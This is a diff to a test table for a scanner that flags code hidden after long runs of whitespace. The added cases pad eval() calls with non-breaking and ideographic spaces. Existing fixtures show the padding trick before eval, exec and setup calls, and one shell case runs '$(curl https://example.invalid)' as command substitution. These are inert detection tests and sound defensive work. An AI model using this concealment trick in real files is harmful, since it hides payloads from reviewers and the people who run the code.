@@ -18,6 +18,8 @@ FAR = b" " * 200
         ("a.py", b"if x:\n" + FAR + b"print('x')\n", 2, 201),
         ("a.js", b"var a = 1;" + FAR + b"eval(b);\n", 1, 211),
         ("a.js", b"var a = 1;" + b"\xc2\xa0" * 200 + b"eval(b);\n", 1, 211),
+        ("a.js", b"var a = 1;" + (b"   \xc2\xa0" * 50) + b"eval(b);\n", 1, 211),
+        ("a.js", b"var a = 1;" + (b" " * 9 + b"\xe3\x80\x80") * 20 + b"eval(b);\n", 1, 211),
         ("setup.py", b"setup()" + FAR + b";a()" + FAR + b";b()\n", 1, 412),
         ("a.py", b"def broken(:\n  x = 1" + FAR + b";exec(x)\n", 2, 208),
         ("a.sh", b"true" + FAR + b"; $(curl https://example.invalid)\n", 1, 205),
